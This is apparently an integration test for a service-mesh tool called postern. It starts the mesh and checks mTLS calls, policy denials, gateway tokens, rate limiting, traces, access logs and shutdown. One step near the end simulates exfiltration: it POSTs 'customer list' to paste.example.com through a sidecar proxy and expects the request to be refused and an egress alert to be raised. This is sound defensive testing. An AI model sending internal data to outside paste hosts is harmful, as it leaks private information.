import { spawn } from 'node:child_process';
import { readFile } from 'node:fs/promises';
import { connect } from 'node:net';
import { join } from 'node:path';
import t from 'tap';
import { Agent, ProxyAgent, request } from 'undici';
import { CHILD_NODE_ARGS, POSTERN_BIN } from '../../cli/processes.ts';
import { eventually, mtlsAgent, tempDir } from '../helpers.ts';

const portOpen = (port: number) =>
  new Promise<boolean>((resolve) => {
    const socket = connect(port, '127.0.0.1');
    socket.once('connect', () => {
      socket.destroy();
      resolve(true);
    });
    socket.once('error', () => resolve(false));
  });

t.test(
  'postern up starts a working mesh of separate processes, shows its traces, access logs and alerts, and Ctrl-C stops all of it',
  async (t) => {
    const stateDir = join(await tempDir(t), 'state');
    const up = spawn(
      process.execPath,
      [...CHILD_NODE_ARGS, POSTERN_BIN, 'up', '--state', stateDir, '--traces', 'print'],
      // No learning period: the egress below is news at once.
      {
        stdio: ['ignore', 'pipe', 'pipe'],
        env: { ...process.env, POSTERN_DETECTION_LEARNING: '0' },
      },
    );
    t.teardown(() => up.kill('SIGKILL'));
    const exited = new Promise<number | null>((resolve) =>
      up.once('exit', (code) => resolve(code)),
    );
    let output = '';
    up.stdout.on('data', (chunk) => {
      output += chunk;
    });
    up.stderr.on('data', (chunk) => {
      output += chunk;
    });
    await new Promise<void>((resolve, reject) => {
      const check = () => (output.includes('Ctrl-C stops everything') ? resolve() : undefined);
      up.stdout.on('data', check);
      void exited.then(() => reject(new Error(`postern up exited early:\n${output}`)));
    });

    const port = (name: string) =>
      Number(
        new RegExp(`--resolve ${name}\\.shop\\.svc\\.cluster\\.local:(\\d+):`).exec(output)![1],
      );
    const appPort = (name: string) =>
      Number(new RegExp(`${name}\\s+app http://127\\.0\\.0\\.1:(\\d+)`).exec(output)![1]);
    const clientDir = join(stateDir, 'clients', 'tester');
    const agent = mtlsAgent({
      cert: await readFile(join(clientDir, 'cert.pem'), 'utf8'),
      key: await readFile(join(clientDir, 'key.pem'), 'utf8'),
      ca: await readFile(join(clientDir, 'bundle.pem'), 'utf8'),
    });
    t.teardown(() => agent.close());

    const allowed = await request(`https://127.0.0.1:${port('frontend')}/`, { dispatcher: agent });
    t.equal(allowed.statusCode, 200, 'the printed allowed call works');
    t.match(await allowed.body.json(), {
      seenCaller: 'spiffe://cluster.local/ns/default/sa/tester',
      orders: { seenCaller: 'spiffe://cluster.local/ns/shop/sa/frontend' },
    });

    const denied = await request(`https://127.0.0.1:${port('orders')}/orders`, {
      dispatcher: agent,
    });
    t.equal(denied.statusCode, 403, 'the printed denied call is denied by the example policy');
    t.match(await denied.body.json(), {
      error: { policy: 'shop/orders-api', route: 'list-orders' },
    });

    const viaFrontend = await request(`https://127.0.0.1:${port('frontend')}/admin`, {
      dispatcher: agent,
    });
    t.equal(viaFrontend.statusCode, 403, "frontend relays the 403 of orders' sidecar for /admin");
    t.match(await viaFrontend.body.json(), {
      orders: { error: { policy: 'shop/orders-api', route: 'admin', rule: 'deny[0]' } },
    });

    // The gateway's printed calls: a token from the demo issuer, none, and past the limit.
    const gatewayPort = Number(
      /gateway \(clients outside the mesh\): https:\/\/localhost:(\d+)/.exec(output)![1],
    );
    const edgeAgent = new Agent({
      connect: {
        ca: await readFile(join(clientDir, 'bundle.pem'), 'utf8'),
        servername: 'localhost',
      },
    });
    t.teardown(() => edgeAgent.close());
    const token = await (await request('http://127.0.0.1:15080/token?sub=alice')).body.text();
    const edge = (headers: Record<string, string> = {}) =>
      request(`https://127.0.0.1:${gatewayPort}/orders`, {
        dispatcher: edgeAgent,
        headers: { host: `localhost:${gatewayPort}`, ...headers },
      });
    const withToken = await edge({ authorization: `Bearer ${token}` });
    t.equal(withToken.statusCode, 200, 'the gateway call with a token works');
    t.match(await withToken.body.json(), {
      seenCaller: 'spiffe://cluster.local/ns/shop/sa/edge',
    });
    const anonymous = await edge();
    await anonymous.body.dump();
    t.equal(anonymous.statusCode, 401, 'without a token: 401');
    const statuses: number[] = [];
    for (let i = 0; i < 6; i++) {
      const response = await edge({ authorization: `Bearer ${token}` });
      await response.body.dump();
      statuses.push(response.statusCode);
    }
    t.ok(statuses.includes(429), `past 5 a minute: 429 (${statuses.join(' ')})`);

    // The allowed call's trace: three hops, printed as one tree.
    await eventually(() => /frontend\s+CLIENT GET → orders/.test(output), 15_000);
    t.match(
      output,
      /trace [0-9a-f]{32}\n {2}frontend\s+SERVER GET site\s+200 .*from spiffe:\/\/cluster\.local\/ns\/default\/sa\/tester\n {4}frontend\s+CLIENT GET → orders\s+200 .*\n {6}orders\s+SERVER GET list-orders\s+200 .*from spiffe:\/\/cluster\.local\/ns\/shop\/sa\/frontend/,
    );

    const accessLog = await readFile(join(stateDir, 'logs', 'orders-access.log'), 'utf8');
    const fromFrontend = accessLog
      .split('\n')
      .filter(Boolean)
      .map((line) => JSON.parse(line))
      .find((entry) => entry.principal === 'spiffe://cluster.local/ns/shop/sa/frontend');
    t.match(fromFrontend, {
      workload: 'orders',
      direction: 'inbound',
      route: 'list-orders',
      status: 200,
      principal: 'spiffe://cluster.local/ns/shop/sa/frontend',
    });

    // The printed egress attempt: refused, and printed as an alert.
    const outbound = Number(/frontend\s+app .* outbound 127\.0\.0\.1:(\d+)/.exec(output)![1]);
    const egress = await request('http://paste.example.com/upload', {
      dispatcher: new ProxyAgent(`http://127.0.0.1:${outbound}`),
      method: 'POST',
      body: 'customer list',
    });
    await egress.body.dump();
    t.equal(egress.statusCode, 502);
    await eventually(() => output.includes('ALERT medium egress'), 30_000);
    t.match(output, /ALERT medium egress: shop\/frontend to paste\.example\.com:80 /);

    const ports = [port('frontend'), port('orders'), appPort('frontend'), appPort('orders')];
    up.kill('SIGINT');
    t.equal(await exited, 0, 'Ctrl-C exits cleanly');
    for (const p of ports) t.notOk(await portOpen(p), `nothing listens on ${p} any more`);
  },
);
